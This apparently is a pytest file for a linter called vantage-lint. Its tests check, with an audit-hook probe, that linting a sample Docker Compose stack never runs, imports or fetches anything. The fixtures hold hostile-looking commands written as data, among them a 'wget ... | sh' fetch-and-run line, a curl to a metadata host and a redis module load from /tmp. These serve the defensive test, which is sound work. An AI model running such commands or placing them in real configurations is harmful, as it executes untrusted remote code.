"""Linting reads files and nothing else: it never runs, imports or fetches what they name."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent

COMPOSE = """\
services:
  worker:
    build:
      context: https://github.com/example/evil.git#main
    image: registry.invalid/evil:latest
    command: ["celery", "-A", "evil_app", "worker", "--loglevel=INFO"]
    env_file:
      - ./worker.env
    environment:
      CELERY_BROKER_URL: redis://redis.invalid:6379/0
    healthcheck:
      test: ["CMD-SHELL", "curl -f http://metadata.invalid/ && python -c 'import evil_app'"]
  beat:
    image: python:3.12
    command: sh -c "python -m evil_app.beat && wget http://metadata.invalid/x | sh"
    entrypoint: ["/bin/sh", "-c", "touch /tmp/vantage-lint-pwned"]
  redis:
    image: redis:7.2
    command: redis-server /usr/local/etc/redis/redis.conf
    volumes:
      - ./redis.conf:/usr/local/etc/redis/redis.conf:ro
include:
  - https://example.invalid/remote-compose.yml
"""

EVIL_MODULE = """\
import pathlib
pathlib.Path(__file__).with_name("IMPORTED").write_text("imported")
"""

# A child interpreter that records every audited event touching processes, the network or the
# planted module, then runs the CLI on the project.
PROBE = """\
import json, sys
events = []
WATCH = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "socket.",
         "urllib.Request", "http.client.connect", "ctypes.dlopen")
def hook(event, args):
    if event.startswith(WATCH):
        events.append([event, repr(args)[:200]])
    elif event == "import" and args and str(args[0]).split(".")[0] in ("evil_app", "celery", "requests", "urllib3"):
        events.append([event, str(args[0])])
sys.addaudithook(hook)
from vantage_lint.cli import main
sys.argv = ["vantage-lint", "--isolated", "--no-cache", "--format", "json", "--jobs", sys.argv[1], "."]
code = main()
with open("events.json", "w") as handle:
    json.dump({"code": code, "events": events}, handle)
"""


def _project(tmp_path: Path) -> Path:
    project = tmp_path / "stack"
    project.mkdir()
    (project / "docker-compose.yml").write_text(COMPOSE)
    (project / "worker.env").write_text("CELERY_RESULT_BACKEND=redis://redis.invalid:6379/1\n")
    (project / "redis.conf").write_text("include /etc/redis/evil.conf\nloadmodule /tmp/evil.so\n")
    (project / "evil_app.py").write_text(EVIL_MODULE)
    (project / "probe.py").write_text(PROBE)
    return project


def _probe(project: Path, jobs: str) -> dict:
    done = subprocess.run([sys.executable, "probe.py", jobs], cwd=project, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    return json.loads((project / "events.json").read_text())


def test_nothing_is_run_imported_or_fetched(tmp_path):
    project = _project(tmp_path)
    result = _probe(project, "1")
    assert result["code"] == 1  # it did lint: the stack has findings
    assert result["events"] == []
    assert not (project / "IMPORTED").exists()
    assert not Path("/tmp/vantage-lint-pwned").exists()


def test_probe_sees_what_it_watches(tmp_path):
    """The audit probe itself works: an import of the planted module is recorded."""
    project = _project(tmp_path)
    (project / "probe.py").write_text(PROBE.replace("from vantage_lint.cli import main",
                                                    "import evil_app\nfrom vantage_lint.cli import main"))
    result = _probe(project, "1")
    assert ["import", "evil_app"] in result["events"]
    assert (project / "IMPORTED").exists()


def test_remote_references_are_reported_not_fetched(tmp_path):
    project = _project(tmp_path)
    done = subprocess.run([sys.executable, "-m", "vantage_lint", "--isolated", "--format", "json", "."],
                          cwd=project, capture_output=True, text=True, timeout=120)
    assert done.returncode in (0, 1), done.stderr
    report = json.loads(done.stdout)
    assert report["summary"]["findings"] > 0
    assert done.stderr == ""
